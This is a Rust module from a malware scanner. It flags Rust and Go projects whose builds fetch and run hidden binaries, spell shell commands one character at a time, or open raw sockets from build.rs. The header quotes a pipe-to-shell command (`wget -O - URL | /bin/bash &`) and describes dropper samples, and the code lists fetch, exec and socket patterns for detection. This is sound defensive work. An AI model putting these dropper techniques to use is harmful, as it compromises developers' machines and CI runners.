//! Compiled-language droppers and build-time beacons (round 43m).
//!
//! Held-out set 21 brought three Rust crates and a Go module whose code runs when the project is
//! built or imported: a build script joining base64 pieces into an address, fetching a binary,
//! marking it executable and running it; a crate that, on a CI runner, fetches from an address
//! spelled as XOR'd bytes into `/tmp` and runs it; a Go `init` that glues one-character strings
//! into `wget -O - URL | /bin/bash &` and hands it to `/bin/sh -c`; a build script writing the
//! output of `whoami` to a raw socket on a literal address. Every line looks like ordinary Rust or
//! Go; the pipe-to-shell and download-run rules read shell text.
//!
//! Three rules, each over one Rust or Go file (not a test), in one pass over its lowered lines:
//!
//! - `execution.hidden-native-download-run` (`critical`): within [`WINDOW`] lines, an HTTP fetch
//!   through a client library ([`FETCH`]), a write of a file ([`WRITE`]), and a process started on
//!   a path held in a name ([`RUN`], first argument not a string literal) that the write or a
//!   permission change also names — in a file that writes no `http://` or `https://` address out
//!   and checks no digest ([`VERIFIES`]). A tool fetched from an address in plain text, or checked
//!   against a hash, is not judged.
//! - `obfuscation.char-pieces-command` (`critical`): a list literal of at least [`PIECES`] quoted
//!   one-character strings in a file that starts a shell with `-c` (`/bin/sh`, `bash`, `cmd /c`):
//!   a command spelled one letter at a time so no reader or pattern sees it.
//! - `exfiltration.build-script-socket` (`critical`): a Rust build script (`build.rs`) opening a
//!   raw TCP or UDP socket to a literal address. A build needs no socket to a fixed host; what it
//!   writes there is the machine's. A build script already judged critical for exfiltration (a
//!   harvest read and sent) keeps that finding alone.

use super::Bundle;
use super::File;
use super::find::has;
use super::shapes::{found, rel};
use crate::scan::content::Finding;
use crate::scan::rules::Severity;

/// Lines within which the fetch, the write and the run are looked for.
const WINDOW: usize = 40;
/// Fewest one-character pieces judged a spelled-out command.
const PIECES: usize = 20;

/// HTTP fetches through Rust and Go client libraries (lower-case).
pub(super) const FETCH: &[&str] = &[
    "reqwest::get(",
    "reqwest::blocking::get(",
    "ureq::get(",
    "curl::easy",
    "easy.url(",
    "isahc::get(",
    "http.get(",
    "http.newrequest(",
    "grab.get(",
    ".get(&format!(",
    ".get(&url",
];
/// A file written.
const WRITE: &[&str] = &[
    "fs::write(",
    "file::create(",
    "os.writefile(",
    "ioutil.writefile(",
    "os.create(",
    "os.openfile(",
];
/// A permission change.
const CHMOD: &[&str] = &["set_permissions(", "from_mode(", "os.chmod("];
/// A process started on a path.
const RUN: &[&str] = &["command::new(", "exec.command("];
/// A digest checked: a fetched tool compared to a known hash.
const VERIFIES: &[&str] = &["sha256", "sha2::", "checksum", "digest", "verify_hash"];
/// A shell given a command string.
const SHELLS: &[&str] = &[
    "\"/bin/sh\"",
    "\"sh\"",
    "\"bash\"",
    "\"/bin/bash\"",
    "\"cmd\"",
];
/// A raw socket opened.
const SOCKETS: &[&str] = &["tcpstream::connect(", "udpsocket::bind("];

/// Words without one of which no rule here can fire (the raw words of `prose::reads_raw_text`).
pub(super) const RAW: &[&str] = &["command::new(", "exec.command(", "tcpstream::connect("];

fn native(path: &str) -> bool {
    let p = path.to_ascii_lowercase();
    p.ends_with(".rs") || p.ends_with(".go")
}

/// The first argument of the call whose name ends at `open` (just past `(`), trimmed of `&`.
fn first_arg(l: &str, open: usize) -> &str {
    let rest = &l[open..];
    let end = rest.find([',', ')']).unwrap_or(rest.len());
    rest[..end].trim().trim_start_matches('&').trim()
}

fn ident(s: &str) -> bool {
    !s.is_empty()
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !s.starts_with(|c: char| c.is_ascii_digit())
}

pub(super) fn native_droppers(b: &Bundle<'_>, out: &mut Vec<Finding>) {
    for file in b
        .files
        .iter()
        .filter(|f| native(f.path) && !f.place.test && !f.place.signature)
    {
        if !file.words().any(RAW) {
            continue;
        }
        let all = file.lower_all();
        if let Some(x) = download_run(file, all) {
            out.push(x);
        }
        if let Some(x) = pieces_command(file, all) {
            out.push(x);
        }
        // A build script whose harvest another rule already judged keeps that finding.
        let judged = out.iter().any(|f| {
            f.file == file.path && f.category == "exfiltration" && f.severity == Severity::Critical
        });
        if !judged && let Some(x) = build_socket(file, all) {
            out.push(x);
        }
    }
}

fn download_run(file: &File<'_>, all: &str) -> Option<Finding> {
    if !RUN.iter().any(|w| has(all, w))
        || !FETCH.iter().any(|w| has(all, w))
        || has(all, "http://")
        || has(all, "https://")
        || VERIFIES.iter().any(|w| has(all, w))
    {
        return None;
    }
    let low = &file.lowered().lower;
    for (r, l) in low.iter().enumerate() {
        let Some(at) = RUN.iter().find_map(|w| l.find(w).map(|p| p + w.len())) else {
            continue;
        };
        let arg = first_arg(l, at);
        if !ident(arg) {
            continue;
        }
        let from = r.saturating_sub(WINDOW);
        let names = |words: &[&str], k: usize| {
            let t = &low[k];
            words.iter().any(|w| t.contains(w)) && super::shapes::has_word(t, arg)
        };
        let Some(w) = (from..r)
            .rev()
            .find(|&k| names(WRITE, k) || names(CHMOD, k))
        else {
            continue;
        };
        let Some(f) = (from..w + 1).find(|&k| FETCH.iter().any(|x| low[k].contains(x))) else {
            continue;
        };
        return Some(found(
            "execution.hidden-native-download-run",
            "execution",
            Severity::Critical,
            file,
            r,
            format!(
                "{}:{}: the code fetches something over HTTP (line {}), writes it to `{}` (line {}) and starts it as a program here, and the file writes no address out in plain text and checks no hash: a binary from a hidden place runs on this machine when the project builds or starts. Do not install this skill.",
                file.path,
                r + 1,
                f + 1,
                arg,
                w + 1
            ),
            vec![rel("fetch", file, f), rel("write", file, w)],
        ));
    }
    None
}

/// Quoted one-character strings on a line (`"w", "g", 'e'`), counted.
fn pieces(l: &str) -> usize {
    let b = l.as_bytes();
    let mut n = 0;
    let mut i = 0;
    while i + 2 < b.len() {
        let q = b[i];
        if (q == b'"' || q == b'\'') && b[i + 2] == q && b[i + 1] != q {
            let before = i == 0 || matches!(b[i - 1], b'[' | b'{' | b'(' | b',' | b' ');
            let after = i + 3 >= b.len() || matches!(b[i + 3], b',' | b']' | b'}' | b')' | b' ');
            if before && after {
                n += 1;
                i += 3;
                continue;
            }
        }
        i += 1;
    }
    n
}

fn pieces_command(file: &File<'_>, all: &str) -> Option<Finding> {
    if !SHELLS.iter().any(|w| has(all, w)) || !(has(all, "\"-c\"") || has(all, "\"/c\"")) {
        return None;
    }
    let lw = file.lowered();
    let i = (0..lw.lines.len()).find(|&i| pieces(lw.lines[i]) >= PIECES)?;
    let run = (0..lw.lower.len())
        .find(|&k| RUN.iter().any(|w| lw.lower[k].contains(w)))
        .unwrap_or(i);
    Some(found(
        "obfuscation.char-pieces-command",
        "obfuscation",
        Severity::Critical,
        file,
        i,
        format!(
            "{}:{}: a list of {} one-character strings sits in a file that hands a command string to a shell (line {}): a command spelled one letter at a time, so neither a reader nor a pattern sees what runs. Do not install this skill.",
            file.path,
            i + 1,
            pieces(lw.lines[i]),
            run + 1
        ),
        vec![rel("shell", file, run)],
    ))
}

fn build_socket(file: &File<'_>, all: &str) -> Option<Finding> {
    let p = file.path.to_ascii_lowercase();
    if !(p == "build.rs" || p.ends_with("/build.rs")) || !SOCKETS.iter().any(|w| has(all, w)) {
        return None;
    }
    let low = &file.lowered().lower;
    let i = low.iter().position(|l| {
        SOCKETS.iter().any(|w| {
            l.find(w)
                .is_some_and(|at| first_arg(l, at + w.len()).starts_with('"'))
        })
    })?;
    Some(found(
        "exfiltration.build-script-socket",
        "exfiltration",
        Severity::Critical,
        file,
        i,
        format!(
            "{}:{}: the build script opens a raw socket to an address written into it. Compiling a crate needs no connection to a fixed host; whatever the script writes there (command output, names of the machine) leaves with every build. Do not install this skill.",
            file.path,
            i + 1
        ),
        Vec::new(),
    ))
}
